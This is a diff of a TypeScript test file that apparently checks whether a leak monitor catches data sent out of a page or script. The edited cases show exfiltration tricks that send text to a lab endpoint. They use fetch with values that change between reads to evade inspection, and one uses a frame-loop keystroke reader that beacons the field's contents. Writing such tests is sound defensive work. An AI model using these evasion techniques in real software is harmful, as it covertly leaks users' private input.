@@ -137,17 +137,17 @@ const cases: ChannelCase[] = [
   spoiledScript(
     'sends an object that says something else the second time',
     '',
-    `let n = 0; fetch(lab.at('in'), { method: 'POST', body: { toString: () => (n++ ? text : 'xin chào') } })`,
+    `let n = 0; const body = { toString: () => (n++ % 2 ? text : 'xin chào') }; for (const _ of [1, 2]) await lab.send(body)`,
   ),
   spoiledScript(
     'gives options whose body changes between reads',
     '',
-    `let n = 0; fetch(lab.at('in'), { method: 'POST', get body() { return n++ ? text : 'xin chào' } })`,
+    `let n = 0; const o = { method: 'POST', get body() { return n++ % 2 ? text : 'xin chào' } }; for (const _ of [1, 2]) await fetch(lab.at('in'), o)`,
   ),
   spoiledScript(
     'gives an address that changes between reads',
     '',
-    `let n = 0; fetch({ toString: () => lab.at('in') + (n++ ? '?d=' + encodeURIComponent(text) : '') })`,
+    `let n = 0; const u = { toString: () => lab.at('in') + (n++ % 2 ? '?d=' + encodeURIComponent(text) : '') }; for (const _ of [1, 2]) await fetch(u)`,
   ),
   spoiledScript(
     'sends parameters whose toString lies',
@@ -219,6 +219,7 @@ const cases: ChannelCase[] = [
   },
   {
     name: 'typing, on a page that stops listening to keys by itself and reads the field in a frame callback',
+    silent: 'what is typed and withheld is not recorded until a send button is pressed',
     page: `${EDITABLE}<script>const t = document.getElementById('t'); let last = ''; const look = () => { if (t.innerText !== last) { last = t.innerText; navigator.sendBeacon(lab.at('in'), last) } requestAnimationFrame(look) }; look()</script>`,
     async drive(user) {
       await user.click('#t');
